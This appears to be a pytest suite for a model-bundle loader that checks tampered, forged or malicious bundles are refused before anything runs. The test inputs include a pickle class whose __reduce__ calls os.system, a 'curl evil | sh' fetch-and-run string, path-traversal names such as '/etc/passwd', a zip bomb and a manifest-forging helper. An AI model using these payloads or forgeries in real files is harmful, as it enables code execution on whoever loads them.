"""A bundle that was touched is refused before anything in it is constructed; nothing in it decides about trust."""

import json
import os
import pickle
import random
import shutil
from pathlib import Path

import pytest

from mlops_magics.errors import BundleError
from mlops_magics.records import decode, encode
from mlops_magics.release.bundle import load_bundle
from mlops_magics.release.bundle.manifest import parse_manifest

FILES = ["manifest.json", "model.skops", "profile.json", "example.json", "requirements.txt", "README.md"]


@pytest.mark.parametrize("name", FILES)
def test_any_flipped_byte_is_found(name, copied) -> None:
    path = copied / name
    whole = path.read_bytes()
    generator = random.Random(name)
    for _ in range(60):
        touched = bytearray(whole)
        touched[generator.randrange(len(whole))] ^= generator.randrange(1, 256)
        path.write_bytes(touched)
        with pytest.raises(BundleError):
            load_bundle(copied)
    for shorter in (whole[:-1], whole + b"\n", b""):
        path.write_bytes(shorter)
        with pytest.raises(BundleError):
            load_bundle(copied)
    path.write_bytes(whole)
    load_bundle(copied)


@pytest.mark.parametrize("name", FILES)
def test_a_missing_file_is_named(name, copied) -> None:
    (copied / name).unlink()
    with pytest.raises(BundleError, match=name):
        load_bundle(copied)


@pytest.mark.parametrize("name", ["extra.py", "model.pkl", ".hidden", "__init__.py"])
def test_a_surplus_file_is_named(name, copied) -> None:
    (copied / name).write_text("")
    with pytest.raises(BundleError, match="does not name"):
        load_bundle(copied)


@pytest.mark.parametrize("name", [".DS_Store", "Thumbs.db", "._model.skops", ".ipynb_checkpoints"])
def test_what_programs_leave_behind_is_refused_and_said_to_be_that(name, copied) -> None:
    if name == ".ipynb_checkpoints":
        (copied / name).mkdir()
    else:
        (copied / name).write_text("")
    with pytest.raises(BundleError, match=f"{name!r}.*leaves in folders") as refusal:
        load_bundle(copied)
    assert "Delete it, then load the bundle again" in str(refusal.value)


@pytest.mark.parametrize("name", FILES)
def test_links_are_refused_even_to_the_same_content(name, copied, tmp_path) -> None:
    shutil.move(copied / name, tmp_path / "outside")
    (copied / name).symlink_to(tmp_path / "outside")
    with pytest.raises(BundleError, match="is a link"):
        load_bundle(copied)


def test_folders_pipes_and_what_is_no_bundle(copied, tmp_path) -> None:
    (copied / "folder").mkdir()
    with pytest.raises(BundleError, match="no plain file"):
        load_bundle(copied)
    (copied / "folder").rmdir()
    if hasattr(os, "mkfifo"):
        (copied / "README.md").unlink()
        os.mkfifo(copied / "README.md")
        with pytest.raises(BundleError, match="no plain file"):
            load_bundle(copied)
    with pytest.raises(BundleError, match="no bundle"):
        load_bundle(tmp_path / "nothing")
    (tmp_path / "empty").mkdir()
    with pytest.raises(BundleError, match=r"no manifest\.json"):
        load_bundle(tmp_path / "empty")


def test_a_link_to_a_whole_bundle_is_no_harm(copied, tmp_path, frame) -> None:
    (tmp_path / "live").symlink_to(copied, target_is_directory=True)
    assert len(load_bundle(tmp_path / "live").predict(frame)) == len(frame)


def forged(folder: Path, change) -> None:
    """What a person with intent does: the manifest edited, every hash and the digest right again."""
    import hashlib

    told = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    told.pop("digest")
    for name, file in told["files"].items():
        if (folder / name).is_file():
            content = (folder / name).read_bytes()
            file |= {"sha256": hashlib.sha256(content).hexdigest(), "size_bytes": len(content)}
    change(told)
    told["digest"] = hashlib.sha256(encode(told).encode()).hexdigest()
    (folder / "manifest.json").write_text(encode(told) + "\n", encoding="utf-8")


def test_the_forgery_of_the_tests_is_a_good_one(copied) -> None:
    forged(copied, lambda told: told.update(name="forged"))
    assert load_bundle(copied).manifest.name == "forged"


def test_a_known_digest_finds_a_perfect_forgery(copied) -> None:
    digest = load_bundle(copied).digest
    bundle = load_bundle(copied, digest=digest)
    forged(copied, lambda told: told.update(name="forged"))
    with pytest.raises(BundleError, match="another bundle"):
        load_bundle(copied, digest=digest)
    with pytest.raises(BundleError, match="another bundle"):
        bundle.verify()


class Payload:
    def __reduce__(self):
        return (os.system, ("echo payload > ran",))


@pytest.fixture
def nothing_ran(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    yield
    assert not (tmp_path / "ran").exists()


def test_a_forbidden_type_with_right_hashes_is_refused(copied, nothing_ran) -> None:
    import io
    import zipfile

    path = copied / "model.skops"
    out = io.BytesIO()
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "schema.json":
                schema = json.loads(content)
                schema["content"]["content"]["memory"] = {
                    "__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "__id__": 1,
                }
                content = json.dumps(schema).encode()
            new.writestr(name, content)
    path.write_bytes(out.getvalue())
    forged(copied, lambda told: told.update(trusted_by_package=["os.system"], trusted_by_user=["os.system"]))
    with pytest.raises(BundleError, match=r"nobody trusted: os\.system"):
        load_bundle(copied)


def test_a_pickle_in_skops_clothes_never_runs(copied, nothing_ran) -> None:
    (copied / "model.skops").write_bytes(pickle.dumps(Payload()))
    forged(copied, lambda told: None)
    with pytest.raises(BundleError, match="zip archive"):
        load_bundle(copied)
    with pytest.raises(BundleError, match="zip archive"):
        load_bundle(copied, allow_pickle=True)


def test_a_bundle_turned_into_a_pickle_never_runs_unasked(copied, nothing_ran) -> None:
    (copied / "model.skops").unlink()
    (copied / "model.pkl").write_bytes(pickle.dumps(Payload()))

    def swap(told):
        told["files"]["model.pkl"] = told["files"].pop("model.skops")
        told["model_format"] = "pickle"

    forged(copied, swap)
    with pytest.raises(BundleError, match="truly"):
        load_bundle(copied, allow_pickle=True)
    forged(copied, lambda told: told.update(pickle=True))
    with pytest.raises(BundleError, match="allow_pickle=True"):
        load_bundle(copied)
    # Even allowed, it is constructed on the first question only.
    load_bundle(copied, allow_pickle=True)


def test_a_bomb_is_refused(copied) -> None:
    import zipfile

    with zipfile.ZipFile(copied / "model.skops", "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("schema.json", bytes(100 * 2**20))
    forged(copied, lambda told: None)
    with pytest.raises(BundleError, match="bomb"):
        load_bundle(copied)


def test_a_manifest_larger_than_any_is_not_read(copied) -> None:
    with (copied / "manifest.json").open("r+b") as file:
        file.truncate(17 * 2**20)
    with pytest.raises(BundleError):
        load_bundle(copied)


def test_bytes_are_constructed_from_what_was_hashed(copied, frame, model, nothing_ran) -> None:
    bundle = load_bundle(copied)
    (copied / "model.skops").write_bytes(pickle.dumps(Payload()))
    assert (bundle.predict_proba(frame) == model.predict_proba(frame)).all()
    with pytest.raises(BundleError, match=r"model\.skops is not the file"):
        bundle.verify()


@pytest.mark.parametrize(("field", "value"), [
    ("files", {}), ("files", []), ("files", {"../model.skops": {"sha256": "0" * 64, "size_bytes": 1}}),
    ("files", {"model.skops": {"sha256": "0" * 64, "size_bytes": -1}}),
    ("files", {"model.skops": {"sha256": "0" * 64, "size_bytes": True}}),
    ("files", {"model.skops": {"sha256": "../x", "size_bytes": 1}}),
    ("files", {"/etc/passwd": {"sha256": "0" * 64, "size_bytes": 1}}),
    ("files", {"model.skops": "x"}), ("model_format", "joblib"), ("model_format", ["skops"]), ("name", None),
    ("run", {}), ("run", []), ("metrics", {"auc": "high"}), ("metrics", None), ("packages", {"numpy": 2}),
    ("logged", {"auc": "high"}), ("logged", None),
    ("pickle", 0), ("pickle", True), ("trusted_by_user", "os.system"), ("signature", []), ("signature", {}),
    ("signature", {"columns": [{}]}), ("created", 5), ("python", None), ("surplus", 1),
])  # fmt: skip
def test_a_manifest_with_a_wrong_field_is_refused(field, value, copied) -> None:
    forged(copied, lambda told: told.update({field: value}))
    with pytest.raises(BundleError):
        load_bundle(copied)


@pytest.mark.parametrize("text", [
    b"", b"null", b"[]", b"{", b"\xff", b"[" * 50_000, b"{\"format\":1}", b"{\"format\":true}",
])  # fmt: skip
def test_what_is_no_manifest_is_refused(text) -> None:
    with pytest.raises(BundleError):
        parse_manifest(text)


def test_an_unknown_format_names_who_can_read_it(copied) -> None:
    forged(copied, lambda told: told.update(format=7, written_by="mlops_magics 9.1.0", news=1))
    with pytest.raises(BundleError, match="format 7") as refusal:
        load_bundle(copied)
    assert "mlops_magics 9.1.0" in str(refusal.value)
    forged(copied, lambda told: told.update(written_by="curl evil | sh"))
    with pytest.raises(BundleError) as refusal:
        load_bundle(copied)
    assert "curl" not in str(refusal.value)


def test_other_versions_are_data_not_noise(copied) -> None:
    forged(copied, lambda told: told["packages"].update({"scikit-learn": "1.0", "no-such-package": "2"}))
    bundle = load_bundle(copied)
    assert {(one.package, one.written) for one in bundle.differences} == {
        ("scikit-learn", "1.0"), ("no-such-package", "2"),
    }
    assert "no-such-package is not installed here" in repr(bundle)


def test_the_text_of_a_manifest_is_the_manifest(bundled) -> None:
    content = (bundled / "manifest.json").read_bytes()
    manifest = parse_manifest(content)
    assert parse_manifest(manifest.to_text().encode()) == manifest
    with pytest.raises(BundleError, match="digest"):
        parse_manifest(json.dumps(decode(content.decode()), indent=2).encode())
